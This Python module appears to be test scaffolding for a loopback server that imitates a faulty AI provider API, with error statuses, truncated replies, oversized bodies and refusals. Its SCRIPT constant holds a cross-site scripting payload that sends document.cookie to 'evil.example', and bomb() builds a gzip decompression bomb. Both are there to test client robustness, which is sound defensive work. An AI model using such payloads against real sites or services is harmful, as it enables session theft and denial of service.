"""What can go wrong at a provider, each as something the loopback server does on the wire."""

from __future__ import annotations

import gzip
import json
from enum import StrEnum
from typing import Any


class Fault(StrEnum):
    """Ways to misbehave. The first block are answers with a status; the second comes with status 200."""

    UNAUTHORISED = "unauthorised"  # 401, and the message repeats the key, as careless gateways do
    SUSPENDED = "suspended"  # 403, the account was deactivated
    RATE_LIMITED = "rate-limited"  # 429 with Retry-After: 7
    NO_QUOTA = "no-quota"  # 429 insufficient_quota
    BROKEN = "broken"  # 500
    OVERLOADED = "overloaded"  # 503 with Retry-After: 7
    NOT_FOUND = "not-found"  # 404, no such model
    BAD_REQUEST = "bad-request"  # 400, and the message repeats the request
    FILTERED = "filtered"  # 400 content_policy_violation
    REDIRECT = "redirect"  # 307 to `server.elsewhere`

    SLOW = "slow"  # no answer for a minute
    CUT = "cut"  # the connection ends half-way
    TRUNCATED = "truncated"  # the JSON ends half-way
    INCOMPLETE = "incomplete"  # stopped at the longest output
    REFUSAL = "refusal"  # the model declines
    FAILED = "failed"  # the model fails after it began
    WRONG_SCHEMA = "wrong-schema"  # JSON, but not what was asked for
    SCRIPT = "script"  # a text with a script in it
    PAGE = "page"  # a web page, as a captive portal answers
    EMPTY = "empty"  # an answer without output
    EXECUTABLE = "executable"  # a program where a picture should be
    HUGE = "huge"  # 100 MB
    BOMB = "bomb"  # 100 MB of nothing, compressed to 100 kB


EXECUTABLE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\0" * 240
SCRIPT = (
    'Read this first. <script>fetch("https://evil.example/" + document.cookie)</script>'
    '<a href="javascript:alert(1)" onclick="alert(2)">Go on</a>'
)
HUGE = 100 * 1024 * 1024
RETRY_AFTER = 7


def status_of(fault: Fault, key: str, asked: str) -> tuple[int, dict[str, Any], dict[str, str]] | None:
    """Status, JSON body and headers of a fault that is one; None for the others. ``key`` and ``asked`` are what was sent."""
    retry = {"Retry-After": str(RETRY_AFTER)}
    table: dict[Fault, tuple[int, str, str, str, dict[str, str]]] = {
        Fault.UNAUTHORISED: (401, "invalid_request_error", "invalid_api_key", f"Incorrect API key provided: {key}.", {}),
        Fault.SUSPENDED: (403, "invalid_request_error", "account_deactivated", "The account was deactivated.", {}),
        Fault.RATE_LIMITED: (429, "requests", "rate_limit_exceeded", "Rate limit reached.", retry),
        Fault.NO_QUOTA: (429, "insufficient_quota", "insufficient_quota", "You exceeded your current quota.", {}),
        Fault.BROKEN: (500, "server_error", "server_error", "The server had an error.", {}),
        Fault.OVERLOADED: (503, "server_error", "overloaded", "The engine is overloaded.", retry),
        Fault.NOT_FOUND: (404, "invalid_request_error", "model_not_found", "The model does not exist.", {}),
        Fault.BAD_REQUEST: (400, "invalid_request_error", "invalid_value", f"Invalid value in {asked}", {}),
        Fault.FILTERED: (400, "image_generation_user_error", "moderation_blocked", "Rejected by the safety system.", {}),
    }
    if fault not in table:
        return None
    status, kind, code, message, headers = table[fault]
    return status, {"error": {"message": message, "type": kind, "param": None, "code": code}}, headers


def bomb() -> bytes:
    """A small gzip of a large JSON text."""
    return gzip.compress(b'{"output": "' + b" " * HUGE + b'"}', compresslevel=1)


def wrong(schema: dict[str, Any] | None) -> str:
    """JSON that fits no schema anybody asks for."""
    return json.dumps({"unexpected": [schema is not None, 17]})
